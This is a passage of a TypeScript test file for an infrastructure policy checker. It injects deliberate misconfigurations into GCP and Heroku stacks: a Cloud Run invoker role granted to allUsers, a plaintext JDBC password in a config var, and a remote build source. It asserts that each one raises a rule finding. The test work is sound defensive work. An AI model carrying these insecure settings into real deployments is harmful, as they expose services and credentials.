    ["policy_data keys in another case", (st) => st.addOverride("resource.google_cloud_run_v2_service_iam_policy.p", { name: "api", policy_data: JSON.stringify({ BINDINGS: [{ ROLE: "roles/run.invoker", MEMBERS: ["allUsers"] }] }) }), RULE_IDS.gcpRunNoPublicInvoke],
  ];
  it.each(gcp)("gcp: %s is a finding", (_what, inject, ruleId) => {
    const report = judged(() => new GcpStack(testApp(), "gcp", weekConfig()), inject);
    expect(report.errors.some((e) => e.startsWith(`[${ruleId}] `))).toBe(true);
  });

  const heroku: Injection[] = [
    ["a JDBC password in a plain config var", (st) => st.node.findAll().find((n): n is HerokuApp => n instanceof HerokuApp)!.addOverride("config_vars", { JDBC: "jdbc:postgresql://db/w;password=hunter2" }), RULE_IDS.herokuSensitiveConfig],
    ["a remote Heroku build source", (st) => st.addOverride("resource.heroku_build.remote", { app_id: "x", source: { url: "https://example.com/app.tgz" } }), RULE_IDS.knownResources],
  ];
  it.each(heroku)("heroku: %s is a finding", (_what, inject, ruleId) => {
    const report = judged(() => new HerokuStack(testApp(), "heroku", weekConfig()), inject);
    expect(report.errors.some((e) => e.startsWith(`[${ruleId}] `))).toBe(true);
  });

  it("and without them, 0 findings on every stack", () => {
    for (const make of [() => new LocalStack(testApp(), "local", weekConfig()), () => new GcpStack(testApp(), "gcp", weekConfig()), () => new HerokuStack(testApp(), "heroku", weekConfig())]) {
      expect(judged(make, () => undefined)).toEqual(expect.objectContaining({ findings: 0, errors: [] }));
    }
  });
});
